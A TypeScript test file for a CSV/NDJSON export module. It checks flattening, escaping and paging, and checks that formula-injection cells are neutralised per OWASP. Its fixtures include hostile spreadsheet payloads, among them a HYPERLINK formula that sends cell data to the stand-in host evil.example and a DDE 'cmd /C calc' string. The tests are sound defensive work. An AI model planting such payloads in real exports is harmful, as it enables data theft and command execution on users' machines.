import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

import { csvColumns, csvRows, encodePage, flatten, ndjsonLines } from '../src/export/formats.js';

describe('export formats', () => {
  it('flattens nested objects with dots, arrays as JSON, null as empty', () => {
    expect(flatten({ uuid: 'a', merchant: { name: 'Oxxo', address: { city: 'CDMX' } }, labels: [{ id: 1 }], amount: 12.5, locked: false, note: null })).toEqual({
      uuid: 'a',
      'merchant.name': 'Oxxo',
      'merchant.address.city': 'CDMX',
      labels: '[{"id":1}]',
      amount: 12.5,
      locked: 'false',
      note: '',
    });
  });

  it('writes a header from the first item and fills later items into those columns', () => {
    const items = [{ a: 1, b: { c: 'x' } }, { b: { c: 'y' }, d: 'not in the header' }];
    const columns = csvColumns(items[0]);
    expect(columns).toEqual(['a', 'b.c']);
    expect(csvRows(items, columns, true)).toBe('a,b.c\n1,x\n,y\n');
    expect(csvRows(items.slice(1), columns, false)).toBe(',y\n');
  });

  it('escapes commas, quotes and line breaks so that a CSV parser reads the values back', () => {
    const values = ['plain', 'a, b', 'say "hi"', 'two\nlines', 'cr\r\nlf', ' padded '];
    const items = values.map((text) => ({ text }));
    const csv = csvRows(items, ['text'], true);
    expect(csv).toContain('"say ""hi"""');
    expect(parse(csv, { columns: true })).toEqual(items);
  });

  it('writes the CSV header once, with the first page that has an item, and keeps its columns for later pages', () => {
    const empty = encodePage('csv', [], undefined);
    expect(empty).toEqual({ text: '' });
    const first = encodePage('csv', [{ a: 1 }], empty.columns);
    expect(first).toEqual({ text: 'a\n1\n', columns: ['a'] });
    expect(encodePage('csv', [{ a: 2, b: 3 }], first.columns)).toEqual({ text: '2\n', columns: ['a'] });
    expect(encodePage('ndjson', [{ a: 1 }], undefined)).toEqual({ text: '{"a":1}\n' });
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP): a leading quote, and the cell quoted', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1+cmd|\' /C calc\'!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ];
    const csv = csvRows(hostile.map((name) => ({ name, amount: -12.5 })), ['name', 'amount'], true);
    expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-12.5`);
    // Read back by a CSV parser, each cell is the text behind a single quote: a spreadsheet shows it, never runs it.
    const records = parse(csv, { columns: true }) as { name: string; amount: string }[];
    expect(records.map((record) => record.name)).toEqual(hostile.map((name) => `'${name}`));
    expect(records.map((record) => record.amount)).toEqual(hostile.map(() => '-12.5')); // a JSON number stays a number
    expect(csvRows([{ name: 'Ana', note: 'a - b = c', mail: 'ana@example.com' }], ['name', 'note', 'mail'], false)).toBe('Ana,a - b = c,ana@example.com\n');
  });

  it('neutralises a hostile column name in the header too', () => {
    const item = { '=cmd()': 'x' };
    expect(csvRows([item], csvColumns(item), true)).toBe(`"'=cmd()"\nx\n`);
  });

  it('writes NDJSON: one JSON document per line', () => {
    expect(ndjsonLines([{ a: 'x\ny' }, { b: [1] }])).toBe('{"a":"x\\ny"}\n{"b":[1]}\n');
    expect(ndjsonLines([])).toBe('');
  });
});
